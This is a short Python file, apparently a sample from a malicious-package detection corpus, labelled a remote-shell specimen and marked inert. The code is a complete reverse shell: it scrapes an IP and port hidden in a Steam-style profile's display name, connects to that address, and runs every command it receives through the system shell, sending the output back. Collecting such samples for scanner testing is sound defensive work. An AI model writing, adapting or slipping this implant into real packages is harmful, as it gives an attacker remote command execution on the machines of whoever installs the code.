# pkgguard corpus 697 (remote-shell), modelled on [stealer-profile]; inert, never run.
import re
import socket
import subprocess

import requests

page = requests.get("https://steamcommunity.example/profiles/76561190000000000", timeout=10).text
found = re.search(r'<span class="actual_persona_name">([\d.]+)\|(\d+)</span>', page)
if found:
    conn = socket.create_connection((found.group(1), int(found.group(2))))
    while True:
        line = conn.recv(4096).decode(errors="ignore")
        if not line:
            break
        done = subprocess.run(line, shell=True, capture_output=True)
        conn.sendall(done.stdout + done.stderr)
